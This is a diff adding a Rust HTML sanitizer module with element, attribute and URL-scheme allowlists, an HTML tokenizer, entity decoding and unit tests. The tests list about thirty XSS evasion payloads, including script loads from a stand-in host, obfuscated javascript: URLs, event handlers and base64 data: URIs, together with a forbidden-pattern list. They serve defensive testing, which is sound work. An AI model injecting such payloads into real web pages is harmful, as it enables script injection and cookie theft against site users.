@@ -0,0 +1,424 @@
+//! Lenient HTML tokenizing and allowlist sanitizing
+//!
+//! Document content and rendered exports are HTML written by users, so
+//! anything shown in a browser goes through [`sanitize_html`] first.
+
+/// Elements kept by [`sanitize_html`]; everything else is dropped and its text kept
+const ALLOWED_ELEMENTS: &[&str] = &[
+    "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "div", "dl", "dt", "em",
+    "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark",
+    "ol", "p", "pre", "q", "s", "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th",
+    "thead", "tr", "u", "ul",
+];
+
+/// Elements without content or closing tag
+const VOID_ELEMENTS: &[&str] = &["br", "hr", "img"];
+
+/// Elements dropped by [`sanitize_html`] together with everything inside them
+const DROPPED_ELEMENTS: &[&str] = &[
+    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "noscript", "noembed",
+    "noframes", "template", "svg", "math", "head", "title", "xmp", "textarea", "select",
+];
+
+/// Attributes kept on any allowed element
+const GLOBAL_ATTRIBUTES: &[&str] = &["class", "title", "lang", "dir"];
+
+/// Attributes holding a URL, kept only for safe schemes
+const URL_ATTRIBUTES: &[&str] = &["href", "src", "cite"];
+
+/// URL schemes allowed in [`URL_ATTRIBUTES`]; URLs without a scheme are relative and allowed
+const ALLOWED_URL_SCHEMES: &[&str] = &["http", "https", "mailto"];
+
+/// Attributes kept on specific elements, besides [`GLOBAL_ATTRIBUTES`]
+fn element_attributes(element: &str) -> &'static [&'static str] {
+    match element {
+        "a" => &["href"],
+        "img" => &["src", "alt", "width", "height"],
+        "blockquote" | "q" | "del" | "ins" => &["cite"],
+        "ol" => &["start", "reversed"],
+        "td" | "th" => &["colspan", "rowspan"],
+        _ => &[],
+    }
+}
+
+/// Reduce HTML to an allowlist of elements and attributes
+///
+/// Scripts, styles, embedded frames and similar elements are removed with
+/// their contents. Other disallowed tags are removed and their text kept.
+/// Event handlers, inline styles and URLs with schemes other than http,
+/// https and mailto are dropped. Text is re-escaped and the output is always
+/// balanced, so it can be embedded in a page as is.
+pub fn sanitize_html(html: &str) -> String {
+    let mut output = String::with_capacity(html.len());
+    let mut open: Vec<String> = Vec::new();
+    // Element being dropped with its content, and how deeply it is nested in itself
+    let mut dropping: Option<(String, usize)> = None;
+
+    for token in HtmlTokens::new(html) {
+        if let Some((element, depth)) = &mut dropping {
+            match &token {
+                HtmlToken::Open { name, self_closing, .. } if name == &*element && has_content(name, *self_closing) => {
+                    *depth += 1
+                }
+                HtmlToken::Close(name) if name == &*element => *depth -= 1,
+                _ => {}
+            }
+            if *depth == 0 {
+                dropping = None;
+            }
+            continue;
+        }
+
+        match token {
+            HtmlToken::Text(text) => output.push_str(&escape_html(&text)),
+            HtmlToken::Open { name, self_closing, .. } if DROPPED_ELEMENTS.contains(&name.as_str()) => {
+                if has_content(&name, self_closing) {
+                    dropping = Some((name, 1));
+                }
+            }
+            HtmlToken::Open { name, attributes, self_closing } if ALLOWED_ELEMENTS.contains(&name.as_str()) => {
+                output.push('<');
+                output.push_str(&name);
+                for (attribute, value) in &attributes {
+                    if is_allowed_attribute(&name, attribute, value) {
+                        output.push_str(&format!(" {}=\"{}\"", attribute, escape_html(value)));
+                    }
+                }
+                output.push('>');
+
+                if VOID_ELEMENTS.contains(&name.as_str()) {
+                    continue;
+                }
+                if self_closing {
+                    output.push_str(&format!("</{}>", name));
+                } else {
+                    open.push(name);
+                }
+            }
+            HtmlToken::Close(name) => {
+                // Closing an element also closes any left open inside it
+                if let Some(index) = open.iter().rposition(|element| *element == name) {
+                    for element in open.drain(index..).rev() {
+                        output.push_str(&format!("</{}>", element));
+                    }
+                }
+            }
+            HtmlToken::Open { .. } => {}
+        }
+    }
+
+    for element in open.iter().rev() {
+        output.push_str(&format!("</{}>", element));
+    }
+    output
+}
+
+/// Whether an opening tag of a dropped element is followed by content to drop
+///
+/// Browsers ignore a self-closing slash outside SVG and MathML, so `<script/>` has content.
+fn has_content(element: &str, self_closing: bool) -> bool {
+    !self_closing || !matches!(element, "svg" | "math")
+}
+
+fn is_allowed_attribute(element: &str, attribute: &str, value: &str) -> bool {
+    if !GLOBAL_ATTRIBUTES.contains(&attribute) && !element_attributes(element).contains(&attribute) {
+        return false;
+    }
+    !URL_ATTRIBUTES.contains(&attribute) || is_safe_url(value)
+}
+
+/// Whether a URL is relative or uses an allowed scheme
+pub fn is_safe_url(url: &str) -> bool {
+    // Browsers ignore whitespace and control characters inside a scheme, as in `java\tscript:`
+    let url: String = url
+        .chars()
+        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
+        .collect::<String>()
+        .to_ascii_lowercase();
+
+    match url.find([':', '/', '?', '#']) {
+        Some(index) if url[index..].starts_with(':') => ALLOWED_URL_SCHEMES.contains(&&url[..index]),
+        _ => true,
+    }
+}
+
+/// Piece of HTML produced by [`HtmlTokens`]
+#[derive(Debug, Clone, PartialEq)]
+pub enum HtmlToken {
+    Text(String),
+    Open {
+        name: String,
+        attributes: Vec<(String, String)>,
+        self_closing: bool,
+    },
+    Close(String),
+}
+
+/// Lenient HTML tokenizer; a `<` that does not start a tag is treated as text
+///
+/// Tag and attribute names are lowercased and character references in text
+/// and attribute values decoded. Comments, doctypes and processing
+/// instructions are skipped.
+pub struct HtmlTokens<'a> {
+    html: &'a str,
+    position: usize,
+}
+
+impl<'a> HtmlTokens<'a> {
+    pub fn new(html: &'a str) -> Self {
+        Self { html, position: 0 }
+    }
+
+    /// Byte offset in the input just after the last token returned
+    pub fn position(&self) -> usize {
+        self.position
+    }
+
+    /// Parse a tag starting at `start`, returning it and the position after it
+    fn tag_at(&self, start: usize) -> Option<(Option<HtmlToken>, usize)> {
+        let rest = &self.html[start..];
+
+        if let Some(comment) = rest.strip_prefix("<!--") {
+            let end = comment.find("-->").map(|i| start + 4 + i + 3).unwrap_or(self.html.len());
+            return Some((None, end));
+        }
+        if rest.starts_with("<!") || rest.starts_with("<?") {
+            let end = rest.find('>').map(|i| start + i + 1).unwrap_or(self.html.len());
+            return Some((None, end));
+        }
+
+        let (closing, name_start) = match rest.as_bytes().get(1) {
+            Some(b'/') => (true, 2),
+            Some(byte) if byte.is_ascii_alphabetic() => (false, 1),
+            _ => return None,
+        };
+        let name_len = rest[name_start..]
+            .find(|c: char| !c.is_ascii_alphanumeric())
+            .unwrap_or(rest.len() - name_start);
+        if name_len == 0 {
+            return None;
+        }
+        let name = rest[name_start..name_start + name_len].to_ascii_lowercase();
+
+        let mut cursor = name_start + name_len;
+        let mut attributes = Vec::new();
+        let mut self_closing = false;
+        let bytes = rest.as_bytes();
+
+        loop {
+            while cursor < bytes.len() && bytes[cursor].is_ascii_whitespace() {
+                cursor += 1;
+            }
+            match bytes.get(cursor) {
+                None => break,
+                Some(b'>') => {
+                    cursor += 1;
+                    break;
+                }
+                Some(b'/') => {
+                    self_closing = true;
+                    cursor += 1;
+                    continue;
+                }
+                _ => {}
+            }
+
+            let attr_len = rest[cursor..]
+                .find(|c: char| c.is_ascii_whitespace() || c == '=' || c == '>' || c == '/')
+                .unwrap_or(rest.len() - cursor);
+            let attr_name = rest[cursor..cursor + attr_len].to_ascii_lowercase();
+            cursor += attr_len.max(1);
+
+            let mut value = String::new();
+            if bytes.get(cursor) == Some(&b'=') {
+                cursor += 1;
+                match bytes.get(cursor) {
+                    Some(&quote @ (b'"' | b'\'')) => {
+                        let value_start = cursor + 1;
+                        let value_end = rest[value_start..]
+                            .find(quote as char)
+                            .map(|i| value_start + i)
+                            .unwrap_or(rest.len());
+                        value = decode_entities(&rest[value_start..value_end]);
+                        cursor = (value_end + 1).min(rest.len());
+                    }
+                    _ => {
+                        let value_len = rest[cursor..]
+                            .find(|c: char| c.is_ascii_whitespace() || c == '>')
+                            .unwrap_or(rest.len() - cursor);
+                        value = decode_entities(&rest[cursor..cursor + value_len]);
+                        cursor += value_len;
+                    }
+                }
+            }
+            if !attr_name.is_empty() {
+                attributes.push((attr_name, value));
+            }
+        }
+
+        let token = if closing {
+            HtmlToken::Close(name)
+        } else {
+            HtmlToken::Open { name, attributes, self_closing }
+        };
+        Some((Some(token), start + cursor))
+    }
+}
+
+impl Iterator for HtmlTokens<'_> {
+    type Item = HtmlToken;
+
+    fn next(&mut self) -> Option<HtmlToken> {
+        while self.position < self.html.len() {
+            let rest = &self.html[self.position..];
+
+            if rest.starts_with('<') {
+                if let Some((token, end)) = self.tag_at(self.position) {
+                    self.position = end;
+                    match token {
+                        Some(token) => return Some(token),
+                        None => continue,
+                    }
+                }
+            }
+
+            // Text runs up to the next `<` that is not the one we stand on
+            let skip = usize::from(rest.starts_with('<'));
+            let text_len = rest[skip..].find('<').map(|i| i + skip).unwrap_or(rest.len());
+            self.position += text_len;
+            return Some(HtmlToken::Text(decode_entities(&rest[..text_len])));
+        }
+        None
+    }
+}
+
+/// Decode named and numeric character references
+pub fn decode_entities(text: &str) -> String {
+    if !text.contains('&') {
+        return text.to_string();
+    }
+
+    let mut decoded = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(amp) = rest.find('&') {
+        decoded.push_str(&rest[..amp]);
+        rest = &rest[amp..];
+
+        let entity = rest[1..]
+            .find(';')
+            .filter(|&end| end <= 10)
+            .map(|end| &rest[1..end + 1]);
+        let character = entity.and_then(|entity| match entity {
+            "amp" => Some('&'),
+            "lt" => Some('<'),
+            "gt" => Some('>'),
+            "quot" => Some('"'),
+            "apos" => Some('\''),
+            "nbsp" => Some('\u{a0}'),
+            _ => {
+                let number = entity.strip_prefix('#')?;
+                let code = match number.strip_prefix(['x', 'X']) {
+                    Some(hex) => u32::from_str_radix(hex, 16).ok()?,
+                    None => number.parse().ok()?,
+                };
+                char::from_u32(code)
+            }
+        });
+
+        match (entity, character) {
+            (Some(entity), Some(character)) => {
+                decoded.push(character);
+                rest = &rest[entity.len() + 2..];
+            }
+            _ => {
+                decoded.push('&');
+                rest = &rest[1..];
+            }
+        }
+    }
+    decoded.push_str(rest);
+    decoded
+}
+
+/// Escape text for use in HTML content or a quoted attribute value
+pub fn escape_html(text: &str) -> String {
+    let mut escaped = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '&' => escaped.push_str("&amp;"),
+            '<' => escaped.push_str("&lt;"),
+            '>' => escaped.push_str("&gt;"),
+            '"' => escaped.push_str("&quot;"),
+            _ => escaped.push(c),
+        }
+    }
+    escaped
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_allowed_markup_is_kept() {
+        let html = r#"<h2 class="title">Notes</h2><p>Read <a href="https://example.com/a?b=1&amp;c=2" title="More">this</a> and <em>that</em><br/>now.</p><img src="/images/cat.png" alt="A cat"><ul><li>One</li></ul>"#;
+        assert_eq!(
+            sanitize_html(html),
+            r#"<h2 class="title">Notes</h2><p>Read <a href="https://example.com/a?b=1&amp;c=2" title="More">this</a> and <em>that</em><br>now.</p><img src="/images/cat.png" alt="A cat"><ul><li>One</li></ul>"#
+        );
+    }
+
+    #[test]
+    fn test_known_xss_payloads_are_neutralized() {
+        // Payloads from the OWASP XSS filter evasion cheat sheet
+        let payloads = [
+            "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
+            "<script>alert('XSS')</script>",
+            "<IMG SRC=\"javascript:alert('XSS');\">",
+            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+            "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+            "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+            "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+            "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
+            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+            "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+            "<IMG SRC=\"https://xss.example/x.png\" onerror=\"alert('XSS')\"",
+            "<iframe src=https://xss.example/scriptlet.html <",
+            "<svg/onload=alert('XSS')>",
+            "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+            "<IMG DYNSRC=\"javascript:alert('XSS')\">",
+            "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+            "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+            "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+            "<BASE HREF=\"javascript:alert('XSS');//\">",
+            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
+            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
+            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
+            "<a href=\"vbscript:msgbox('XSS')\">click</a>",
+            "<FORM><BUTTON FORMACTION=\"javascript:alert(1)\">X</BUTTON></FORM>",
+            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+            "<scr<script>ipt>alert('XSS')</script>",
+        ];
+
+        for payload in payloads {
+            let sanitized = sanitize_html(payload).to_ascii_lowercase();
+            for forbidden in ["<script", "<style", "<iframe", "<svg", "<object", "<embed", "<meta", "<base", "javascript:", "vbscript:", "data:", "onload", "onerror", "onmouseover", "style=", "formaction"] {
+                assert!(!sanitized.contains(forbidden), "{:?} survived in {:?} from {:?}", forbidden, sanitized, payload);
+            }
+        }
+    }
+
+    #[test]
+    fn test_output_is_balanced_and_text_escaped() {
+        assert_eq!(sanitize_html("<p><strong>bold <em>both</p>after"), "<p><strong>bold <em>both</em></strong></p>after");
+        assert_eq!(sanitize_html("<div>open"), "<div>open</div>");
+        assert_eq!(sanitize_html("</div>1 &lt; 2 & \"x\""), "1 &lt; 2 &amp; &quot;x&quot;");
+        assert_eq!(sanitize_html("<custom-tag>kept text</custom-tag>"), "kept text");
+    }
+}